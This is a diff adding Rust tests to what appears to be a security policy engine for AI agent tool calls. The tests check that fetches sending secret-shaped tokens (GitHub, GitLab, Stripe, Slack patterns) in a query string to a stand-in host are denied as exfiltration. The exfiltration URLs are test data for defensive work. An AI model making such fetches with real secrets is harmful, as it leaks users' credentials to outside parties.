@@ -317,3 +317,92 @@ fn sql_in_http_bodies_is_decided_by_the_sql_rules() {
         Effect::Allow
     );
 }
+
+/// Tokens of every length each length-ranged detector accepts, and every
+/// sample of `tests/data/secrets/samples.tsv` without whitespace.
+fn tokens_of_every_length() -> Vec<(String, String)> {
+    let alnum = |n: usize| -> String {
+        (0..n)
+            .map(|i| char::from(b"aB3dE5gH7jK9mN1pQ2sT4vW6yZ8"[i * 7 % 27]))
+            .collect()
+    };
+    let mut out = Vec::new();
+    for n in 36..=255 {
+        out.push(("GitHub token".to_owned(), format!("ghp_{}", alnum(n))));
+    }
+    out.push((
+        "GitHub fine-grained token".to_owned(),
+        format!("github_pat_{}", alnum(82)),
+    ));
+    for n in 20..=120 {
+        out.push(("GitLab token".to_owned(), format!("glpat-{}", alnum(n))));
+        out.push(("Stripe key".to_owned(), format!("sk_live_{}", alnum(n))));
+    }
+    for n in 10..=120 {
+        out.push(("Slack token".to_owned(), format!("xoxb-{}", alnum(n))));
+    }
+    for line in common::read("secrets/samples.tsv").lines() {
+        if let Some((kind, text)) = line.split_once('\t') {
+            if !line.starts_with('#') && !text.contains(char::is_whitespace) {
+                out.push((kind.to_owned(), text.to_owned()));
+            }
+        }
+    }
+    out
+}
+
+/// `text` percent-encoded as a query value (every byte but unreserved).
+fn query_escaped(text: &str) -> String {
+    text.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+                char::from(b).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+#[test]
+fn an_agents_fetches_get_one_default_and_secrets_in_their_query_are_exfiltration_at_every_length() {
+    let engine = Engine::default_policy().unwrap();
+    // One default for one destination, whatever tool carries the fetch.
+    let url = json!({"url": "https://unknown-host.example/page"});
+    let fetches = [
+        "WebFetch",
+        "mcp__fetch__fetch",
+        "browser_navigate",
+        "web_fetch",
+    ];
+    let effects: Vec<Effect> = fetches
+        .iter()
+        .map(|t| engine.check_tool(t, &url).effect)
+        .collect();
+    assert!(effects.iter().all(|e| *e == Effect::Ask), "{effects:?}");
+    let mut failures = Vec::new();
+    let tokens = tokens_of_every_length();
+    assert!(tokens.len() > 500, "{}", tokens.len());
+    for (kind, token) in &tokens {
+        for value in [token.clone(), query_escaped(token)] {
+            let args = json!({"url": format!("https://unknown-host.example/collect?t={value}")});
+            for tool in ["WebFetch", "mcp__fetch__fetch"] {
+                let d = engine.check_tool(tool, &args);
+                if d.effect != Effect::Deny || !d.reason.contains("exfiltration") {
+                    failures.push(format!(
+                        "{tool} {kind} ({} bytes) {value}: {} {}",
+                        token.len(),
+                        d.effect,
+                        d.reason
+                    ));
+                }
+            }
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} failed:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
+}
